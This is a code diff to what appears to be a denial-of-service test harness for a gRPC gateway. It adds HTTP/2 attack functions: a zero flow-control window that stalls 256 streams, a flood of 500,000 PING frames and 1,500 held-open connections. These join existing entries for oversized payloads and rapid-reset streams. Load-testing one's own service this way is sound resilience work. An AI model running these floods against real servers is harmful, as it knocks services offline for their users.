@@ -54,7 +54,7 @@ FLOW = {
                 "name": "index",
                 "needs": ["encode"],
                 "uses": "_index",
-                "usesWith": {"metric": "euclidean"},
+                "executor": {"with": {"metric": "euclidean"}},
                 "shards": 2,
                 "storage": {"size": "1Gi"},
             },
@@ -362,6 +362,35 @@ def streams(count: int, block: bytes, reset: bool) -> Attack:
     return attack
 
 
+async def deaf(target: Target) -> None:
+    """Ask on streams whose flow control lets no answer through."""
+    reader, writer = await asyncio.open_connection(target.host, target.grpc_port)
+    writer.write(BEGIN + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+    raw = pea_pb2.Envelope(header=pea_pb2.Header(id="x", kind=pea_pb2.SEARCH), bodies=[SMALL]).SerializeToString()
+    for number in range(1, 2 * 256, 2):
+        writer.write(frame(HEADERS, 4, number, call("/peavine.v1.Gateway/Call")))
+        writer.write(frame(DATA, 0, number, b"\0" + len(raw).to_bytes(4, "big") + raw))
+        await writer.drain()
+    await reader.read(-1)
+
+
+async def pings(target: Target) -> None:
+    reader, writer = await asyncio.open_connection(target.host, target.grpc_port)
+    writer.write(BEGIN)
+    draining = asyncio.create_task(reader.read(-1))
+    for _ in range(500):
+        writer.write(frame(PING, 0, 0, bytes(8)) * 1000)
+        await writer.drain()
+    await draining
+
+
+async def grpc_connections(target: Target) -> None:
+    held = [await asyncio.open_connection(target.host, target.grpc_port) for _ in range(1500)]
+    for _, writer in held:
+        writer.write(BEGIN)
+    await asyncio.gather(*(reader.read(-1) for reader, _ in held), return_exceptions=True)
+
+
 ATTACKS: dict[str, Attack] = {
     "a tensor of strings, 110 KB": post(json.dumps({"docs": [{"tensor": ["x" * 22000] + [""] * 22000}]}).encode()),
     "many Documents in JSON, 2 MiB": post(items(b"{}", 2 * MIB)),
@@ -385,6 +414,9 @@ ATTACKS: dict[str, Attack] = {
     "2 half-sent units of 400 MiB to a Pea": half_sent_to_a_pea,
     "20,000 calls that are reset": streams(20_000, call("/peavine.v1.Gateway/Search"), reset=True),
     "10,000 heads of 12 KB, reset": streams(10_000, call("/peavine.v1.Gateway/Search", x="y" * 12_000), reset=True),
+    "500,000 pings": pings,
+    "1,500 gRPC connections": grpc_connections,
+    "256 streams that take no answer": deaf,
     "5,000 Call streams": streams(5_000, call("/peavine.v1.Gateway/Call"), reset=False),
 }
 
